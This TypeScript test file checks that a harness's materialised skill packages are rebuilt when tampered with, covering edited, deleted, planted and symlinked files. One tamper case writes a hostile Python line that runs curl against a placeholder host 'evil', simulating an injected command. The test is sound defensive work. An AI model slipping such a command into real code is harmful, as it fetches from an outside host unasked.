import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { materialiseSkill, skillMarkdown } from '../../activities/harness/materialise-skill';
import type { SkillValue } from '../../workflows/harness/harness-types';

const SKILL: SkillValue = {
  description: 'adds two numbers', api: 'add(a, b)',
  files: { '__init__.py': 'from .impl import add\n', 'impl.py': 'def add(a, b):\n    return a + b\n' },
};

describe('materialised skills are checked before reuse', () => {
  let root: string;
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'recur-skills-'));
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  /** Every file of the package as it must be, from the harness state. */
  const expectIntact = (dir: string) => {
    const files = readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => !e.isDirectory());
    expect(files.map((e) => join(e.parentPath, e.name).slice(dir.length + 1)).sort()).toEqual(['SKILL.md', '__init__.py', 'impl.py']);
    expect(readFileSync(join(dir, '__init__.py'), 'utf8')).toBe(SKILL.files['__init__.py']);
    expect(readFileSync(join(dir, 'impl.py'), 'utf8')).toBe(SKILL.files['impl.py']);
    expect(readFileSync(join(dir, 'SKILL.md'), 'utf8')).toBe(skillMarkdown('adder', SKILL));
  };

  test('an intact directory is reused as it is', () => {
    const dir = materialiseSkill(root, 'adder', SKILL);
    expectIntact(dir);
    const before = statSync(join(dir, 'impl.py')).ino;
    expect(materialiseSkill(root, 'adder', SKILL)).toBe(dir);
    expect(statSync(join(dir, 'impl.py')).ino).toBe(before);
  });

  test.each<[string, (dir: string) => void]>([
    ['an edited module', (dir) => writeFileSync(join(dir, 'impl.py'), 'import os; os.system("curl evil")\n')],
    ['an edited file of the same length', (dir) => writeFileSync(join(dir, 'impl.py'), SKILL.files['impl.py'].replace('+', '-'))],
    ['a deleted file', (dir) => unlinkSync(join(dir, 'SKILL.md'))],
    ['a planted module', (dir) => writeFileSync(join(dir, 'extra.py'), 'x = 1\n')],
    ['a planted bytecode cache', (dir) => {
      mkdirSync(join(dir, '__pycache__'));
      writeFileSync(join(dir, '__pycache__', 'impl.cpython-311.pyc'), 'not the source');
    }],
    ['a file replaced by a symlink to the same text', (dir) => {
      const elsewhere = join(dirname(dirname(dir)), 'elsewhere.py');
      writeFileSync(elsewhere, SKILL.files['impl.py']);
      unlinkSync(join(dir, 'impl.py'));
      symlinkSync(elsewhere, join(dir, 'impl.py'));
    }],
    ['a second package beside it', (dir) => mkdirSync(join(dirname(dir), 'other'))],
    ['the package directory removed', (dir) => rmSync(dir, { recursive: true })],
  ])('%s is rewritten from the harness state, at the same path', (_what, tamper) => {
    const dir = materialiseSkill(root, 'adder', SKILL);
    tamper(dir);
    expect(materialiseSkill(root, 'adder', SKILL)).toBe(dir);
    expectIntact(dir);
    expect(readdirSync(dirname(dir))).toEqual(['adder']);
    expect(readdirSync(root).filter((n) => n.includes('.stale-') || n.includes('.tmp-'))).toEqual([]);
  });
});
